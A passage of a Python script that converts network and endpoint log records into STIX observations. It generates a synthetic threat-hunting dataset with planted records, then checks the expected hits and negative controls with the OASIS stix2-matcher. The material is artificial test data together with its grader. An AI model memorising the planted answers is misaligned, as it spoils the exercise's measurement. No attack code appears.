            u = url_of(scheme, host_port(g("url.domain"))[0], port, orig)
    if u:
        o.new("url", value=u)
    if g("url.domain") and not is_addr(g("url.domain")):
        o.new("domain-name", value=g("url.domain"))
    f = {}
    h = {a: g("file.hash." + k) for k, a in (("md5", "MD5"), ("sha1", "SHA-1"), ("sha256", "SHA-256")) if g("file.hash." + k)}
    if h:
        f["hashes"] = h
    if g("file.name"):
        f["name"] = g("file.name")
    if g("file.size") is not None:
        f["size"] = g("file.size")
    if g("file.directory"):
        f["parent_directory_ref"] = o.new("directory", path=g("file.directory"))["id"]
    if f:
        o.new("file", **f)
    p = {}
    if g("process.pid") is not None:
        p["pid"] = g("process.pid")
    if g("process.command_line"):
        p["command_line"] = g("process.command_line")
    img = {}
    if g("process.name"):
        img["name"] = g("process.name")
    h = {a: g("process.hash." + k) for k, a in (("md5", "MD5"), ("sha1", "SHA-1"), ("sha256", "SHA-256")) if g("process.hash." + k)}
    if h:
        img["hashes"] = h
    if img:
        p["image_ref"] = o.new("file", **img)["id"]
    if p:
        o.new("process", **p)
    a = {}
    if g("user.name"):
        a["account_login"] = g("user.name")
    if g("user.id"):
        a["user_id"] = g("user.id")
    if a:
        o.new("user-account", **a)
    m = {}
    frm = g("email.from.address")
    if frm:
        frm = frm if isinstance(frm, list) else [frm]
        m["from_ref"] = o.new("email-addr", value=frm[0])["id"]
    to = g("email.to.address")
    if to:
        m["to_refs"] = [o.new("email-addr", value=t)["id"] for t in (to if isinstance(to, list) else [to])]
    if g("email.subject"):
        m["subject"] = g("email.subject")
    if m:
        o.new("email-message", **m)
    return parse_time(rec["@timestamp"])


def map_custom(rec, o, mapping):
    flat = flatten(rec)
    objs = {}

    def obj(t):
        if t not in objs:
            objs[t] = o.new(t)
        return objs[t]

    for field, path in mapping["fields"].items():
        v = flat.get(field)
        if absent(v):
            continue
        vals = v if isinstance(v, list) else [v]
        t, _, prop = path.partition(":")
        for val in vals:
            if prop.endswith("_ref.value"):
                ref = prop[:-len(".value")]
                target = obj(t)
                target[ref] = o.addr(val) if ref in ("src_ref", "dst_ref") else o.new("email-addr", value=val)["id"]
            elif prop.startswith("hashes."):
                algo = prop[len("hashes."):].strip("'")
                obj(t).setdefault("hashes", {})[algo] = val
            elif len(vals) > 1 or t in ("domain-name", "url"):
                o.new(t, **{prop: val})
            else:
                obj(t)[prop] = val
    return parse_time(flat[mapping["time"]])


def reid(objs, n):
    """Give every object of one observation an id of its own (STIX bundles reuse
    deterministic SCO ids across lines; the matcher is given all observations at once)."""
    m = {o["id"]: "%s--%s" % (o["type"], uuid.uuid5(STIX_NS, "%d:%s" % (n, o["id"]))) for o in objs}

    def fix(v):
        if isinstance(v, str):
            return m.get(v, v)
        if isinstance(v, list):
            return [fix(x) for x in v]
        if isinstance(v, dict):
            return {k: fix(x) for k, x in v.items()}
        return v
    return [fix(o) for o in objs]


def observation(fmt, line, n, mapping):
    rec = json.loads(line)
    if fmt == "stix":
        objs = reid(rec["objects"], n)
        od = next(x for x in objs if x["type"] == "observed-data")
        _, us = parse_time(od["first_observed"])
        return objs, us
    o = Obs(n)
    ts, us = {"zeek": map_zeek, "suricata": map_suricata, "ecs": map_ecs}[fmt](rec, o) if fmt != "custom" else \
        map_custom(rec, o, mapping)
    return o.bundle(ts), us


def check(out, sample_every):
    try:
        from stix2matcher.matcher import MatchListener, Pattern
        from stix2patterns.validator import run_validator
    except ImportError:
        sys.exit("--check needs stix2-matcher and stix2-patterns (the repo's .venv: .venv/bin/python %s --check)" % sys.argv[0])
    t_start = time.perf_counter()
    bundle = json.load(open(os.path.join(out, "indicators.json")))
    mapping = json.load(open(os.path.join(out, "custom", "mapping.json")))
    expected = [json.loads(x) for x in open(os.path.join(out, "expected.jsonl"))]
    controls = [json.loads(x) for x in open(os.path.join(out, "controls.jsonl"))]
    versions = {}
    for o in bundle["objects"]:
        if o["type"] == "indicator":
            versions.setdefault(o["id"], []).append(o)
    current = {k: max(v, key=lambda x: x["modified"]) for k, v in versions.items()}
    stix_inds = {k: v for k, v in current.items() if v["pattern_type"] == "stix"}
    rels = {}
    kinds = {o["id"]: o["type"] for o in bundle["objects"]}
    for o in bundle["objects"]:
        if o["type"] == "relationship" and o["relationship_type"] == "indicates" and \
                kinds.get(o["target_ref"]) in ("intrusion-set", "campaign", "malware"):
            rels.setdefault(o["source_ref"], set()).add(o["target_ref"])
    problems = []

    # every pattern (current and superseded versions, parts) passes the OASIS pattern validator
    pats = set()
    for v in versions.values():
        for x in v:
            if x["pattern_type"] == "stix":
                pats.add(x["pattern"])
    for c in controls:
        pats.update(c.get("components", []))
        if c.get("pattern"):
            pats.add(c["pattern"])
    for p in sorted(pats):
        errs = run_validator(p, stix_version="2.1")
        if errs:
            problems.append("stix2-patterns refuses %s: %s" % (p, errs))

    # the records to check: every planted one, and every sample_every-th line of each file
    fmt_of = lambda f: f.split("/")[0]  # noqa: E731
    planted = set()
    for h in expected:
        planted.add((h["file"], h["line"]))
        planted.update((x["file"], x["line"]) for x in h["others"])
    for c in controls:
        planted.update((x["file"], x["line"]) for x in c.get("records", []))
    files = sorted({f for f, _ in planted})
    recs = []  # (file, line, us, objs)
    n = 0
    sampled = 0
    for f in files:
        with open(os.path.join(out, f)) as fh:
            for ln, line in enumerate(fh, 1):
                key = (f, ln)
                if key in planted or ln % sample_every == 0:
                    n += 1
                    objs, us = observation(fmt_of(f), line, n, mapping)
                    recs.append((f, ln, us, objs))
                    sampled += key not in planted
    index = {(f, ln): k for k, (f, ln, _, _) in enumerate(recs)}
    all_objs = [o for r in recs for o in r[3]]

    has_v6 = {k for k, r in enumerate(recs) if any(o["type"] == "ipv6-addr" for o in r[3])}

    def matching(pattern, subset=None):
        """Indices of the observations matching a one-observation pattern, by the OASIS matcher.

        The OASIS matcher's ISSUBSET raises on an IPv6 address (it knows IPv4 only);
        an IPv6 address is in no IPv4 block, so for the (IPv4) ISSUBSET patterns here
        the observations holding IPv6 addresses are left out: they cannot match."""
        order = list(range(len(recs))) if subset is None else list(subset)
        if "ISSUBSET" in pattern:
            order = [k for k in order if k not in has_v6]
        objs = all_objs if subset is None and "ISSUBSET" not in pattern else [o for k in order for o in recs[k][3]]
        ml = MatchListener([{"type": "bundle", "id": "bundle--00000000-0000-4000-8000-000000000000", "objects": objs}],
                           False, stix_version="2.1")
        Pattern(pattern, stix_version="2.1").walk(ml)
        found = set()
        for binding in ml.matched():
            for b in binding:
                if b is not None:
                    found.add(order[b])
        return found

    exp_by_ind = {}
    for h in expected:
        exp_by_ind.setdefault(h["indicator"], []).append(h)
    negs_by_ind = {}
    multi = {}
    for c in controls:
        if c["control"] == "negative":
            negs_by_ind.setdefault(c["indicator"], []).append(c)
        else:
            multi[c["indicator"]] = c["components"]

    def vu_us(ind):
        return parse_time(ind["valid_until"])[1] if ind.get("valid_until") else None

    n_checked = 0
    for iid, ind in sorted(stix_inds.items()):
        exp = exp_by_ind.get(iid, [])
        for h in exp:
            if sorted(rels.get(iid, ())) != h["related"]:
                problems.append("%s: related %s, but indicates reaches %s" % (ind["name"], h["related"], sorted(rels.get(iid, ()))))
        if iid not in multi:
            m = matching(ind["pattern"])
            n_checked += 1
            vu = vu_us(ind)
            hunted = set() if ind.get("revoked") else {k for k in m if vu is None or recs[k][2] < vu}
            want = {index[(h["file"], h["line"])] for h in exp}
            for k in sorted(hunted - want):
                problems.append("%s: the matcher matches %s:%d, not in expected.jsonl" % (ind["name"], recs[k][0], recs[k][1]))
            for k in sorted(want - hunted):
                problems.append("%s: expected %s:%d, the matcher (with valid_until/revoked) says no" % (ind["name"], recs[k][0], recs[k][1]))
            for c in negs_by_ind.get(iid, []):
                ks = {index[(r["file"], r["line"])] for r in c["records"]}
                pm = matching(c["pattern"], sorted(ks)) if c["pattern"] != ind["pattern"] else (m & ks)
                if bool(pm) != c["pattern_matches"]:
                    problems.append("%s: control %s: pattern %s matches=%s, want %s" % (ind["name"], c["why"], c["pattern"], bool(pm), c["pattern_matches"]))
                if ks & hunted:
                    problems.append("%s: control %s is hunted" % (ind["name"], c["why"]))
            # a superseded version's pattern matches only its control record
            for old in versions[iid]:
                if old is not ind and old["pattern"] != ind["pattern"]:
                    mo = matching(old["pattern"])
                    ks = {index[(r["file"], r["line"])] for c in negs_by_ind.get(iid, []) if c["why"] == "superseded-version" for r in c["records"]}
                    if mo != ks:
                        problems.append("%s: superseded pattern matches %s, want %s" % (ind["name"], sorted(mo), sorted(ks)))
        else:
            comps = multi[iid]
            groups = [[index[(x["file"], x["line"])] for x in h["others"]] + [index[(h["file"], h["line"])]] for h in exp]
            neg_groups = [[index[(r["file"], r["line"])] for r in c["records"]] for c in negs_by_ind.get(iid, [])]
            members = set(k for g in groups + neg_groups for k in g)
            covered = set()
            for comp in comps:
                mc = matching(comp)
                n_checked += 1
                covered |= mc
                if not mc <= members:
                    problems.append("%s: part %s matches unplanted records %s" % (ind["name"], comp, sorted(mc - members)))
            if covered != members:
                problems.append("%s: planted records %s match no part" % (ind["name"], sorted(members - covered)))
            for g in groups:
                ml = MatchListener([{"type": "bundle", "id": "bundle--00000000-0000-4000-8000-000000000001",
                                     "objects": [o for k in g for o in recs[k][3]]}], False, stix_version="2.1")
                Pattern(ind["pattern"], stix_version="2.1").walk(ml)
                bindings = [set(b for b in binding if b is not None) for binding in ml.matched()]
                if set(range(len(g))) not in bindings:
                    problems.append("%s: the matcher does not match the planted group %s" % (ind["name"], g))
            for g in neg_groups:
                ml = MatchListener([{"type": "bundle", "id": "bundle--00000000-0000-4000-8000-000000000002",
                                     "objects": [o for k in g for o in recs[k][3]]}], False, stix_version="2.1")
                Pattern(ind["pattern"], stix_version="2.1").walk(ml)
                if next(ml.matched(), None) is not None:
                    problems.append("%s: the matcher matches the negative group %s" % (ind["name"], g))
    # Every clean record of every file, not only the sample: the observation it becomes
    # holds no indicator value, no string a LIKE or MATCHES of a pattern accepts, no
    # address in a pattern's ISSUBSET block. Every observation expression here ANDs at
    # least one such comparison, so no clean record can match any pattern.
    import re
    from stix2matcher.matcher import _like_to_regex
    eq, regexes, nets = set(), [], []
    lit = re.compile(r"(=|LIKE|MATCHES|ISSUBSET)\s*'((?:[^'\\]|\\.)*)'")
    for p in pats:
        for op, raw in lit.findall(p):
            v = re.sub(r"\\(.)", r"\1", raw)
            if op == "=" and v not in ("POST", "ssl"):  # each ANDed with a selective comparison
                eq.add(v)
            elif op == "LIKE":
                regexes.append(re.compile(_like_to_regex(v), re.DOTALL))
            elif op == "MATCHES":
                regexes.append(re.compile(v))
            elif op == "ISSUBSET":
                nets.append(ipaddress.ip_network(v))

    def strings(v):
        if isinstance(v, str):
            yield v
        elif isinstance(v, list):
            for x in v:
                yield from strings(x)
        elif isinstance(v, dict):
            for k, x in v.items():
                if k != "id" and not k.endswith(("_ref", "_refs")):
                    yield from strings(x)
    scanned = 0
    for f in files:
        with open(os.path.join(out, f)) as fh:
            for ln, line in enumerate(fh, 1):
                if (f, ln) in planted:
                    continue
                scanned += 1
                objs, _ = observation(fmt_of(f), line, 0, mapping)
                for o in objs:
                    if o["type"] == "observed-data":
                        continue
                    if o["type"] == "ipv4-addr" and any(ipaddress.ip_address(o["value"]) in n for n in nets):
                        problems.append("clean record %s:%d carries %s, in a pattern's block" % (f, ln, o["value"]))
                    for v in strings(o):
                        bad = v in eq or any(r.search(v) for r in regexes)
                        if bad:
                            problems.append("clean record %s:%d carries %r (%s)" % (f, ln, v, o["type"]))
    print("check: %d clean records scanned for indicator values, LIKE/MATCHES strings and ISSUBSET addresses" % scanned)

    # every expected hit's indicator is a current, non-revoked STIX indicator
    for h in expected:
        i = stix_inds.get(h["indicator"])
        if i is None or i.get("revoked"):
            problems.append("expected hit for a non-hunted indicator %s" % h["indicator"])
    secs = time.perf_counter() - t_start
    print("check: %d observations (%d planted, %d clean sampled), %d patterns run through stix2-matcher, "
          "%d validated by stix2-patterns, %.1f s" % (len(recs), len(recs) - sampled, sampled, n_checked, len(pats), secs))
    for p in problems:
        print("PROBLEM: " + p)
    print("check: %s" % ("OK: expected.jsonl is what the OASIS matcher finds" if not problems else "%d problems" % len(problems)))
    return not problems


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--seed", type=int, default=5)
    ap.add_argument("--records", type=int, default=22000, help="records per format (default 22000)")
    ap.add_argument("--out", default="hunt-data")
    ap.add_argument("--check", action="store_true", help="verify expected.jsonl with the OASIS stix2-matcher")
    ap.add_argument("--sample-every", type=int, default=20, help="--check: also every N-th clean line (default 20)")
    a = ap.parse_args()
    t = time.perf_counter()
    P, counts, exp, ctl = generate(a.seed, a.records, a.out)
    secs = time.perf_counter() - t
    clean = sum(c for c, _ in counts.values())
    planted = sum(p for _, p in counts.values())
    for f in sorted(counts):
        print("%-22s %7d clean %4d planted" % (f, counts[f][0], counts[f][1]))
    kinds = {}
    for c in ctl:
        if c["control"] == "negative":
            kinds[c["why"]] = kinds.get(c["why"], 0) + 1
    print("%d clean and %d planted records, %d indicators, %d expected hits (%d over several records), "
          "%d negative controls (%s), in %.1f s"
          % (clean, planted, len(P.inds), len(exp), sum(1 for h in exp if h["others"]),
             sum(kinds.values()), ", ".join("%s %d" % kv for kv in sorted(kinds.items())), secs))
    if a.check and not check(a.out, a.sample_every):
        sys.exit(1)


if __name__ == "__main__":
    main()
